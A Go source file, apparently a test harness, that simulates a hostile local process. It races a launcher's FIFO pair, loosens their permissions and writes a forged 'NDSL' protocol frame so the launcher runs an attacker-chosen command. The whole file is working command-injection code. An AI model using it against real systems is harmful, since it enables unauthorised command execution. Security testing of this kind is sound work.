package hostile

import (
	"context"
	"encoding/binary"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

// inject waits at a pair of FIFOs for a launcher, and tells it what to run.
func (a *Attacker) inject(ctx context.Context, pair string) {
	_ = unix.Chmod(pair+"-in", 0o666) // whatever the umask
	_ = unix.Chmod(pair+"-out", 0o666)
	out, err := os.OpenFile(pair+"-out", os.O_RDONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return
	}
	defer out.Close()
	var in *os.File
	for deadline := time.Now().Add(3 * time.Second); ; time.Sleep(200 * time.Microsecond) {
		if in, err = os.OpenFile(pair+"-in", os.O_WRONLY|unix.O_NONBLOCK, 0); err == nil {
			break
		}
		if ctx.Err() != nil || time.Now().After(deadline) {
			return
		}
	}
	defer in.Close()
	version := make([]byte, 1)
	_ = out.SetReadDeadline(time.Now().Add(3 * time.Second))
	if _, err := out.Read(version); err != nil {
		return
	}
	if _, err := in.Write(payload(version[0], a.Command)); err == nil {
		a.injected.Add(1)
	}
}

// payload is a command in the launcher's words.
func payload(version byte, argv []string) []byte {
	body := binary.BigEndian.AppendUint32(nil, uint32(len(argv)))
	for _, arg := range argv {
		body = append(binary.BigEndian.AppendUint32(body, uint32(len(arg))), arg...)
	}
	body = append(body, make([]byte, 8)...) // no environment
	if version > 1 {
		body = append(body, make([]byte, 4)...) // no limits
	}
	b := append([]byte("NDSL"), version, 0, 0, 0)
	return append(binary.BigEndian.AppendUint32(b, uint32(len(body))), body...)
}
